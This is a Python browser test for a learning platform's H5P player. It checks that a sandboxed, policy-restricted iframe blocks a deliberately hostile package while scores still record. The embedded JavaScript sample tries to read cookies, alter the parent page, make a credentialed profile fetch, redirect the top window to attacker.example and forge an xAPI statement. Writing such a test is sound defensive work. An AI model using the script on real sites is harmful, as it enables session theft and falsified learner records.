"""A hostile package gets nothing from the fellow's session and changes nothing
in the lesson page, while the same activity still records the fellow's score.

The true/false fixture's library is given one more script, run by the player
like any library code: it tries the lesson page's document, the cookies, a
credentialed request for the fellow's profile and navigating the top window,
and writes down what it got. The player runs in a frame with
sandbox="allow-scripts" and no allow-same-origin, under its own policy.
"""

import json
import re

import pytest

from content.h5p.services import package_import
from courses.services import enrolment_create
from courses.xapi.models import ActivityResult, Statement
from tests.browser.conftest import CSP_LISTENER
from tests.factories import PASSWORD
from tests.h5p import archives
from tests.xapi.lessons import h5p_lesson

pytestmark = pytest.mark.django_db(transaction=True)

PLAYER = "iframe[data-h5p-frame]"
STATEMENTS = re.compile(r"/xapi/statements$")
HOSTILE_JS = b"""
(function () {
  var probe = window.__probe = {};
  function attempt(name, action) {
    try { probe[name] = String(action()); } catch (error) { probe[name] = "refused: " + error.name; }
  }
  attempt("parentDocument", function () {
    window.parent.document.body.setAttribute("data-owned", "yes");
    return "changed the lesson page";
  });
  attempt("parentCookie", function () { return window.parent.document.cookie; });
  attempt("cookie", function () { return document.cookie || "(empty)"; });
  attempt("topLocation", function () {
    window.top.location.href = "https://attacker.example/stolen";
    return "navigated";
  });
  probe.profile = "pending";
  fetch("/en/accounts/profile/", { credentials: "include" })
    .then(function (response) { return response.text(); })
    .then(function (text) { probe.profile = "read " + text.length + " characters"; },
          function (error) { probe.profile = "refused: " + error.name; });
  // A statement forged for the platform: the lesson page only forwards
  // statements about its own activity, the server checks the rest.
  window.parent.postMessage({
    h5pFrame: 1, type: "statement",
    statement: { verb: { id: "http://adlnet.gov/expapi/verbs/passed" },
                 object: { id: "https://attacker.example/activity" },
                 result: { score: { scaled: 1 }, success: true } }
  }, "*");
})();
"""


def hostile_true_false() -> bytes:
    entries = archives.retitled("Hostile true/false")
    name = "H5P.TrueFalse-1.6/library.json"
    metadata = json.loads(entries[name])
    metadata["preloadedJs"].append({"path": "scripts/probe.js"})
    entries[name] = json.dumps(metadata).encode()
    entries["H5P.TrueFalse-1.6/scripts/probe.js"] = HOSTILE_JS
    return archives.build_zip(entries)


@pytest.fixture
def page(chromium, live_server):
    """The usual page, with the policy violations kept for the test to read:
    here they are expected (the frame's policy refuses the request)."""
    context = chromium.new_context(base_url=live_server.url, locale="en-GB")
    context.set_default_timeout(15_000)
    violations = []

    def on_violation(report):
        violations.append(report)

    context.expose_function("__cspViolation", on_violation)
    context.add_init_script(CSP_LISTENER)
    page = context.new_page()
    page.csp_violations = violations
    yield page
    context.close()


@pytest.fixture
def hostile_lesson(site, fellow):
    package = package_import(file=hostile_true_false(), filename="hostile.h5p").package
    built = h5p_lesson(site=site, package=package)
    enrolment_create(user=fellow, course=built.course)
    return built


def test_hostile_package_gets_nothing_and_the_score_still_counts(
    page, fellow, sign_in, hostile_lesson
):
    lesson = hostile_lesson.lesson
    profile_requests = []
    page.on(
        "request",
        lambda request: (
            profile_requests.append(request.url)
            if "/accounts/profile/" in request.url
            else None
        ),
    )
    sign_in(fellow, PASSWORD)
    page.goto(lesson.url)
    lesson_url = page.url
    assert any(cookie["name"] == "sessionid" for cookie in page.context.cookies())
    page.get_by_role("button", name="Start activity").click()
    page.get_by_text("The activity is ready.").wait_for()

    frame = next(frame for frame in page.frames if "/h5p/play/" in frame.url)
    frame.wait_for_function("window.__probe && window.__probe.profile !== 'pending'")
    probe = frame.evaluate("window.__probe")
    assert probe["parentDocument"] == "refused: SecurityError"
    assert probe["parentCookie"] == "refused: SecurityError"
    assert probe["cookie"] == "refused: SecurityError"
    assert probe["topLocation"] == "refused: SecurityError"
    assert probe["profile"] == "refused: TypeError"
    assert profile_requests == []  # refused before anything left the browser
    assert any("directive=connect-src" in report for report in page.csp_violations)
    assert page.evaluate("document.body.hasAttribute('data-owned')") is False

    # The fellow answers: the score is recorded as for any package.
    with page.expect_response(
        lambda response: (
            STATEMENTS.search(response.url) and response.request.method == "POST"
        )
    ) as posted:
        player = page.frame_locator(PLAYER)
        player.get_by_role("radio", name="False").click()
        player.get_by_role("button", name="Check").click()
    assert posted.value.status == 200
    answered = Statement.objects.get(
        user=fellow, verb="http://adlnet.gov/expapi/verbs/answered"
    )
    assert answered.score == 1.0
    result = ActivityResult.objects.get(user=fellow, lesson=lesson)
    assert (result.score, result.passed, result.completed) == (1.0, True, True)
    # The forged statement about another activity was never sent.
    assert not any(
        "attacker" in str((statement.payload.get("object") or {}).get("id", ""))
        for statement in Statement.objects.all()
    )
    assert Statement.objects.filter(user=fellow).count() == Statement.objects.count()

    # The top window was not navigated, and its session is intact.
    assert page.url == lesson_url
    assert page.get_by_role("heading", name="Hostile true/false").is_visible()
